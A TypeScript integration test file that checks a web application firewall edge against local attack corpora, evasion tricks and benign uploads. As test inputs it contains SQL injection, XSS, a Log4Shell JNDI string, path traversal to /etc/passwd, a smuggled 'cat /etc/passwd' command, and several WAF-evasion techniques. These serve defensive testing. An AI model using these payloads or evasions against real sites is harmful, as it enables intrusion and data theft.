// baseprotection through a real edge with a real backend: the GoTestWAF corpus's held-out part,
// the project's own and independent attack sets and benign sets replayed as requests, each from its own
// client address (given by a trusted proxy, so that bans do not mix the cases up); every known
// walk-around (large, chunked and compressed bodies, invalid UTF-8, parameter pollution, headers,
// multipart and JSON tricks) refused; refused requests never reach the backend; uploads of real
// binary files pass whole; the temporary ban and the per-client rate limit; scanners and protocol
// violations.
import { createHash, randomBytes } from 'node:crypto';
import { createServer, request, type Server } from 'node:http';
import { deflateSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminCli, startServe, stopProcess, type RunningServer } from '../helpers/spawn-palisade.ts';
import { removeTempDirs, tempDir } from '../helpers/temp.ts';
import { until } from '../helpers/until.ts';
import { attackCases, benignCases, benignSet, multipart, ownAttacks, requestFor, type CorpusRequest } from '../helpers/waf-corpus.ts';

/** What docs/edge.md reports at the default level (1); the test fails if the edge does worse. */
const MIN_HELD_OUT_PER_CLASS = 0.9;
const MIN_OWN_PER_CLASS = 0.9;
const MAX_BENIGN = 0.05;

let server: RunningServer;
let backend: Server;
let reached = 0;
let key = '';
let backendPort = 0;
/** sha256 of each body the backend received, by request path. */
const received = new Map<string, string>();
let clientCounter = 0;

interface Sent extends CorpusRequest {
  /** Send the body chunked (no Content-Length), in pieces of this size. */
  chunked?: number;
}

function send(req: Sent, host: string, client?: string, localAddress = '127.0.0.9') {
  const url = new URL(server.edgeUrl!);
  return new Promise<{ status: number; body: string; headers: import('node:http').IncomingHttpHeaders }>((resolve, reject) => {
    const headers: Record<string, string> = { host, ...req.headers, ...(client && { 'x-forwarded-for': client }) };
    if (req.body && !req.chunked) headers['content-length'] = String(req.body.length);
    const r = request({ host: url.hostname, port: url.port, path: req.path, method: req.method, localAddress, agent: false, headers }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c.toString()));
      res.on('end', () => resolve({ status: res.statusCode!, body, headers: res.headers }));
    });
    r.on('error', reject);
    if (req.body && req.chunked) {
      for (let at = 0; at < req.body.length; at += req.chunked) r.write(req.body.subarray(at, at + req.chunked));
      r.end();
    } else r.end(req.body);
  });
}

const nextClient = () => {
  clientCounter++;
  return `10.${(clientCounter >> 16) & 255}.${(clientCounter >> 8) & 255}.${clientCounter & 255}`;
};

beforeAll(async () => {
  backend = createServer((req, res) => {
    reached++;
    const hash = createHash('sha256');
    req.on('data', (c: Buffer) => hash.update(c));
    req.on('end', () => {
      received.set(req.url ?? '/', hash.digest('hex'));
      res.end('ok');
    });
  });
  await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
  const port = (backendPort = (backend.address() as { port: number }).port);
  const env = { PALISADE_DATA_DIR: tempDir(), PALISADE_ALLOW_PRIVATE_BACKENDS: 'true', PALISADE_EDGE_TRUSTED_PROXIES: '127.0.0.9', PALISADE_LOG_LEVEL: 'warn' };
  key = JSON.parse((await runAdminCli(env, ['user', 'create', '--name', 'w', '--email', 'w@example.org'])).stdout).key.api_key as string;
  server = await startServe({ ...env, PALISADE_LOG_LEVEL: 'info', PALISADE_EDGE_CLIENT_RATE: '20', PALISADE_EDGE_CLIENT_BURST: '20' });
  for (const [domain, baseprotection] of [['waf.example', true], ['open.example', false]] as const) {
    const res = await fetch(`${server.url}/domains`, { method: 'POST', headers: { 'x-auth-key': key, 'content-type': 'application/json' }, body: JSON.stringify({ domain, backend: `127.0.0.1:${port}`, baseprotection }) });
    expect(res.status).toBe(201);
  }
  for (let i = 0; i < 100 && (await send({ method: 'GET', path: '/', headers: {} }, 'waf.example', nextClient())).status !== 200; i++) await new Promise((r) => setTimeout(r, 50));
}, 60_000);

afterAll(async () => {
  if (server) await stopProcess(server);
  backend?.close();
  removeTempDirs();
});

describe('edge: baseprotection (WAF)', () => {
  const refused = (status: number) => status >= 400 && status < 500;

  it("refuses the corpus's held-out part, the own attack set, passes the benign sets; refused requests never reach the backend", async () => {
    const reachedBefore = reached;
    let passed = 0;
    const tally = async (label: string, cases: Array<[string, CorpusRequest]>) => {
      const byClass = new Map<string, { blocked: number; total: number }>();
      for (const [cls, req] of cases) {
        const res = await send(req, 'waf.example', nextClient());
        const entry = byClass.get(cls) ?? { blocked: 0, total: 0 };
        entry.total++;
        if (refused(res.status)) entry.blocked++;
        else passed++;
        byClass.set(cls, entry);
      }
      for (const [cls, { blocked, total }] of byClass) console.log(`${label} ${cls.padEnd(16)} ${blocked}/${total}`);
      return byClass;
    };
    const heldOut = await tally('held-out', attackCases('held-out').flatMap((c) => (requestFor(c) ? [[c.type, requestFor(c)!] as [string, CorpusRequest]] : [])));
    const own = await tally('own', ownAttacks().map((a) => [a.class, a]));
    // Written independently of the detectors (test/fixtures/waf-attacks/independent-sets.md).
    const independent = await tally('sets 3 and 4', [...ownAttacks('held-out-3.jsonl'), ...ownAttacks('held-out-4.jsonl')].map((a) => [a.class, a]));
    expect(reached - reachedBefore).toBe(passed);
    const sum = (m: Map<string, { blocked: number; total: number }>) => [...m.values()].reduce((a, b) => [a[0]! + b.blocked, a[1]! + b.total], [0, 0]);
    const [h, ht] = sum(heldOut);
    for (const [cls, { blocked, total }] of heldOut) expect(blocked / total, cls).toBeGreaterThanOrEqual(MIN_HELD_OUT_PER_CLASS);
    for (const [cls, { blocked, total }] of own) expect(blocked / total, cls).toBeGreaterThanOrEqual(MIN_OWN_PER_CLASS);
    for (const [cls, { blocked, total }] of independent) expect(blocked / total, `sets 3 and 4 ${cls}`).toBeGreaterThanOrEqual(MIN_OWN_PER_CLASS);

    let falsePositives = 0;
    let uploads = 0;
    // (NoSQL operators in an admin tool's filters are what NoSQL injection sends: refused by design, not counted.)
    const benign = [...benignCases().flatMap((c) => (requestFor(c) ? [{ ...requestFor(c)!, kind: 'gotestwaf' }] : [])), ...benignSet(), ...benignSet('held-out-2.jsonl').filter((r) => r.kind !== 'api-operators'), ...benignSet('held-out-3.jsonl'), ...benignSet('held-out-4.jsonl')];
    for (const req of benign) {
      const res = await send(req, 'waf.example', nextClient());
      if (res.status !== 200) {
        falsePositives++;
        if (req.kind === 'upload') uploads++;
      }
    }
    console.log(`held-out ${h}/${ht}; benign false positives ${falsePositives}/${benign.length}, uploads ${uploads}`);
    expect(uploads).toBe(0);
    expect(falsePositives / benign.length).toBeLessThanOrEqual(MAX_BENIGN);
  }, 180_000);

  it('passes uploads of real binary files whole, and one past the inspection limit (1 MiB) too', async () => {
    const upload = benignSet().filter((r) => r.kind === 'upload');
    expect(upload.length).toBeGreaterThanOrEqual(19);
    for (const req of upload) {
      const path = `/upload-${upload.indexOf(req)}`;
      expect((await send({ ...req, path }, 'waf.example', nextClient())).status).toBe(200);
      expect(received.get(path)).toBe(createHash('sha256').update(req.body!).digest('hex'));
    }
    // 1.5 MB of file: its first MiB is inspected, then it is handed back and sent whole.
    const big = multipart({ title: 'archive' }, { field: 'file', name: 'big.bin', type: 'application/octet-stream', bytes: Buffer.concat(Array.from({ length: 24 }, (_, i) => createHash('sha512').update(String(i)).digest()).map((b) => Buffer.concat(Array(1000).fill(b)))) });
    const res = await send({ method: 'POST', path: '/upload-big', headers: { 'content-type': big.contentType }, body: big.body }, 'waf.example', nextClient());
    expect(res.status).toBe(200);
    expect(received.get('/upload-big')).toBe(createHash('sha256').update(big.body).digest('hex'));
  });

  it('watches the rest of an upload past the inspection limit: a field after a large file is read, the backend never gets a refused body whole', async () => {
    const attack = "1' UNION SELECT password FROM users-- -";
    const file = Buffer.concat(Array.from({ length: 24 }, (_, i) => createHash('sha512').update(`tail${i}`).digest()).map((b) => Buffer.concat(Array(1000).fill(b))));
    const part = (name: string, content: Buffer | string, filename?: string) =>
      Buffer.concat([Buffer.from(`--b\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: application/octet-stream` : ''}\r\n\r\n`), Buffer.from(content), Buffer.from('\r\n')]);
    const body = (...parts: Buffer[]) => Buffer.concat([...parts, Buffer.from('--b--\r\n')]);
    const headers = { 'content-type': 'multipart/form-data; boundary=b' };
    const cases: Array<[string, Buffer]> = [
      ['field after a 1.5 MB file', body(part('file', file, 'big.bin'), part('q', attack))],
      // The field that straddles the 1 MiB limit is read again whole.
      ['field across the limit', body(part('file', file.subarray(0, 1024 * 1024 - 120), 'a.bin'), part('q', `${'x '.repeat(40)}${attack}`))],
      ['file name of a part after the limit', body(part('file', file, 'big.bin'), part('other', 'x', '../../etc/passwd'))],
    ];
    for (const [name, bytes] of cases) {
      expect(bytes.length, name).toBeGreaterThan(1024 * 1024);
      for (const chunked of [undefined, 65_536]) {
        const path = `/tail-${cases.findIndex((c) => c[0] === name)}-${chunked ?? 'length'}`;
        const res = await send({ method: 'POST', path, headers, body: bytes, chunked }, 'waf.example', nextClient());
        expect(res.status, name).toBe(403);
        await new Promise((r) => setTimeout(r, 50));
        expect(received.has(path), `${name}: the backend got the whole body`).toBe(false);
      }
    }
    // The same upload without the attack reaches the backend whole.
    const clean = body(part('file', file, 'big.bin'), part('q', 'holiday photos'));
    expect((await send({ method: 'POST', path: '/tail-clean', headers, body: clean, chunked: 65_536 }, 'waf.example', nextClient())).status).toBe(200);
    expect(received.get('/tail-clean')).toBe(createHash('sha256').update(clean).digest('hex'));
    // Compressed past the limit: refused (its rest could only be watched by decompressing it on the way).
    const packed = gzipSync(body(part('file', randomBytes(1200 * 1024), 'noise.bin'), part('q', 'holiday photos')));
    expect(packed.length).toBeGreaterThan(1024 * 1024);
    expect((await send({ method: 'POST', path: '/tail-gzip', headers: { ...headers, 'content-encoding': 'gzip' }, body: packed }, 'waf.example', nextClient())).status).toBe(413);
    expect(received.has('/tail-gzip')).toBe(false);
  });

  it('leaves no walk-around: large, chunked and compressed bodies, invalid UTF-8, repeated parameters, headers, multipart and JSON tricks', async () => {
    const attack = "1' UNION SELECT password FROM users-- -";
    const form = (text: string) => Buffer.from(`q=${encodeURIComponent(text)}`);
    const urlencoded = { 'content-type': 'application/x-www-form-urlencoded' };
    const padding = `note=${'lorem ipsum dolor '.repeat(5000)}&`; // ~90 KB
    const cases: Array<[string, Sent]> = [
      ['body over 64 KiB', { method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form(attack)]) }],
      ['chunked body', { method: 'POST', path: '/', headers: urlencoded, body: form(attack), chunked: 7 }],
      ['chunked body over 64 KiB', { method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form(attack)]), chunked: 16_384 }],
      ['gzip body', { method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'gzip' }, body: gzipSync(form(attack)) }],
      ['deflate body', { method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'deflate' }, body: deflateSync(form(attack)) }],
      ['invalid UTF-8 byte first', { method: 'GET', path: "/?id=%FF1'%20UNION%20SELECT%20password%20FROM%20users--", headers: {} }],
      ['parameter pollution', { method: 'GET', path: "/?id=1'%20UNION/*&id=*/SELECT%20password%20FROM%20users--", headers: {} }],
      ['cookie name', { method: 'GET', path: '/', headers: { cookie: `${encodeURIComponent('<svg onload=alert(1)>')}=1` } }],
      ['Accept-Language', { method: 'GET', path: '/', headers: { 'accept-language': attack } }],
      ['Accept', { method: 'GET', path: '/', headers: { accept: 'text/html, <script>alert(1)</script>' } }],
      ['Content-Type parameter', { method: 'POST', path: '/', headers: { 'content-type': 'text/plain; charset=${jndi:ldap://x/a}' }, body: Buffer.from('hello') }],
      ['Authorization scheme', { method: 'GET', path: '/', headers: { authorization: `Basic ${attack}` } }],
      ['X- header', { method: 'GET', path: '/', headers: { 'x-original-url': '/admin/../../etc/passwd' } }],
      ['Sec- header', { method: 'GET', path: '/', headers: { 'sec-fetch-user': '; cat /etc/passwd' } }],
      ['multipart with LF line ends', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\nContent-Disposition: form-data; name="q"\n\n${attack}\n--b--\n`) }],
      ['payload in filename=', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n\r\nx\r\n--b--\r\n`) }],
      ['payload in a part name', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="<svg onload=alert(1)>"\r\n\r\nx\r\n--b--\r\n`) }],
      ['quoted-printable part', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n1=27 UNION SELECT password FROM users-- -\r\n--b--\r\n`) }],
      ['JSON with a BOM as text/plain', { method: 'POST', path: '/', headers: { 'content-type': 'text/plain' }, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify({ q: attack }))]) }],
      ['JSON duplicate keys', { method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: Buffer.from(`{"q": "${attack.replace(/'/g, "\\u0027")}", "q": "harmless"}`) }],
      ['JSON \\u escapes', { method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: Buffer.from('{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}') }],
    ];
    for (const [name, req] of cases) {
      const reachedBefore = reached;
      const res = await send(req, 'waf.example', nextClient());
      expect(res.status, name).toBe(403);
      expect(reached, name).toBe(reachedBefore);
    }
    // The same harmless requests pass (the refusals above are the payloads', not the shapes').
    expect((await send({ method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form('hello')]), chunked: 16_384 }, 'waf.example', nextClient())).status).toBe(200);
    expect((await send({ method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'gzip' }, body: gzipSync(form('hello')) }, 'waf.example', nextClient())).status).toBe(200);
  });

  it('refuses a decompression bomb and a text body past the inspection limit (413, rule named)', async () => {
    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024, 'a'));
    expect(bomb.length).toBeLessThan(64 * 1024);
    const res = await send({ method: 'POST', path: '/', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: bomb }, 'waf.example', nextClient());
    expect(res.status).toBe(413);
    // The page says what is wrong with the body (it said "blocked by its protection rules").
    expect(res.body).toContain('Request body not accepted');
    expect(res.body).toMatch(/expands more than/);
    expect(res.body).not.toContain('protection rules');
    const json = Buffer.from(JSON.stringify({ notes: 'x'.repeat(1_200_000) }));
    const large = await send({ method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: json }, 'waf.example', nextClient());
    expect(large.status).toBe(413);
    expect(large.body).toContain('too large');
    expect(large.body).toContain('1,024 KiB');
    expect((await send({ method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: json, chunked: 65_536 }, 'waf.example', nextClient())).status).toBe(413);
  });

  it('per-domain settings through the API: shown by GET, carried to the edge — exclusions by rule, path and parameter, log only, sensitivity level', async () => {
    const api = (method: string, path: string, body?: unknown) => fetch(`${server.url}${path}`, { method, headers: { 'x-auth-key': key, 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
    const shown = await (await api('GET', '/domains/waf.example')).json();
    expect(shown).toMatchObject({ waf_level: 1, waf_mode: 'block', waf_exclusions: [], waf_body_limit: 1024, waf_body_overflow: 'auto' });
    expect((await api('POST', '/domains', { domain: 'tuned.example', backend: `127.0.0.1:${backendPort}`, waf_exclusions: [{ rule: 942100, path: '/search', param: 'q' }] })).status).toBe(201);
    expect((await api('PATCH', '/domains/tuned.example', { waf_level: 7 })).status).toBe(400);
    const attack = encodeURIComponent('1 union select password from users');
    const status = async (path: string) => (await send({ method: 'GET', path, headers: {} }, 'tuned.example', nextClient())).status;
    for (let i = 0; i < 100 && (await status('/')) !== 200; i++) await new Promise((r) => setTimeout(r, 50));
    expect(await status(`/search?q=${attack}`)).toBe(200);
    expect(await status(`/search?id=${attack}`)).toBe(403);
    expect(await status(`/other?q=${attack}`)).toBe(403);
    // Log only: nothing refused, the would-be refusal logged with its rule.
    expect((await api('PATCH', '/domains/tuned.example', { waf_mode: 'log' })).status).toBe(200);
    for (let i = 0; i < 100 && (await status(`/other?q=${attack}`)) !== 200; i++) await new Promise((r) => setTimeout(r, 50));
    await until('the log-only line', () => /"rule":942100.*would refuse \(log only\)/.test(server.output())).catch(() => undefined);
    expect(server.output()).toMatch(/"rule":942100.*would refuse \(log only\)/);
    // Level 2 reads print( as a call (Python's too); level 1 does not.
    const encoded = encodeURIComponent('print(1)');
    expect(await status(`/other?x=${encoded}`)).toBe(200);
    expect((await api('PATCH', '/domains/tuned.example', { waf_mode: 'block', waf_level: 2 })).status).toBe(200);
    for (let i = 0; i < 100 && (await status(`/other?x=${encoded}`)) !== 403; i++) await new Promise((r) => setTimeout(r, 50));
    expect(await status(`/other?x=${encoded}`)).toBe(403);
    expect(await (await api('GET', '/domains/tuned.example')).json()).toMatchObject({ waf_level: 2, waf_mode: 'block', waf_exclusions: [{ rule: 942100, path: '/search', param: 'q' }] });
  });

  it('answers 403 with a reference that the log line carries with the rule; a domain without baseprotection passes the same request', async () => {
    const attack = { method: 'GET', path: '/?id=1%27%20union%20select%20password%20from%20users--', headers: {} };
    const res = await send(attack, 'waf.example', nextClient());
    expect(res.status).toBe(403);
    const ref = /<code>([0-9a-f]{16})<\/code>/.exec(res.body)![1]!;
    const line = await until('the refusal\'s log line', () => server.output().split('\n').find((l) => l.includes(ref))).catch(() => undefined);
    expect(JSON.parse(line!)).toMatchObject({ blocked: 'waf', ref, via: expect.stringMatching(/^rule 942\d+ \(sqli\) in query id$/) });
    // Proxied requests get their line too (one per request), with the upstream time.
    const client = nextClient();
    expect((await send(attack, 'open.example', client)).status).toBe(200);
    const linesOf = () => server.output().split('\n').filter((l) => l.includes(`"client":"${client}"`));
    await until('the proxied request\'s log line', () => linesOf().length > 0).catch(() => undefined);
    const proxied = linesOf();
    expect(proxied).toHaveLength(1);
    expect(JSON.parse(proxied[0]!)).toMatchObject({ domain: 'open.example', status: 200, cache: 'BYPASS', upstreamMs: expect.any(Number), complete: true });
  });

  it('refuses scanners and malformed requests', async () => {
    expect((await send({ method: 'GET', path: '/', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }, 'waf.example', nextClient())).status).toBe(403);
    expect((await send({ method: 'PROPFIND', path: '/', headers: {} }, 'waf.example', nextClient())).status).toBe(405);
    expect((await send({ method: 'GET', path: '/%zz', headers: {} }, 'waf.example', nextClient())).status).toBe(400);
    expect((await send({ method: 'GET', path: '/', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0' } }, 'waf.example', nextClient())).status).toBe(200);
  });

  it('bans a client after 10 refused requests for a while; other clients are untouched', async () => {
    const client = nextClient();
    for (let i = 0; i < 10; i++) expect((await send({ method: 'GET', path: `/?q=%3Cscript%3E${i}`, headers: {} }, 'waf.example', client)).status).toBe(403);
    const banned = await send({ method: 'GET', path: '/harmless', headers: {} }, 'waf.example', client);
    expect(banned.status).toBe(403);
    expect(banned.body).toContain('Temporarily blocked');
    expect(Number(banned.headers['retry-after'])).toBeGreaterThan(0);
    expect((await send({ method: 'GET', path: '/harmless', headers: {} }, 'waf.example', nextClient())).status).toBe(200);
  });

  it('limits each client\'s request rate (429 past the burst) without touching other clients', async () => {
    const client = nextClient();
    const statuses = await Promise.all(Array.from({ length: 40 }, () => send({ method: 'GET', path: '/', headers: {} }, 'waf.example', client).then((r) => r.status)));
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(15);
    expect(statuses.filter((s) => s === 200).length).toBeGreaterThanOrEqual(20);
    expect((await send({ method: 'GET', path: '/', headers: {} }, 'waf.example', nextClient())).status).toBe(200);
    const metrics = await (await fetch(`${server.url}/metrics`)).text();
    for (const reason of ['waf', 'scanner', 'protocol', 'banned', 'rate-limited']) expect(metrics).toMatch(new RegExp(`palisade_edge_blocked_total\\{reason="${reason}"\\} [1-9]`));
  });
});
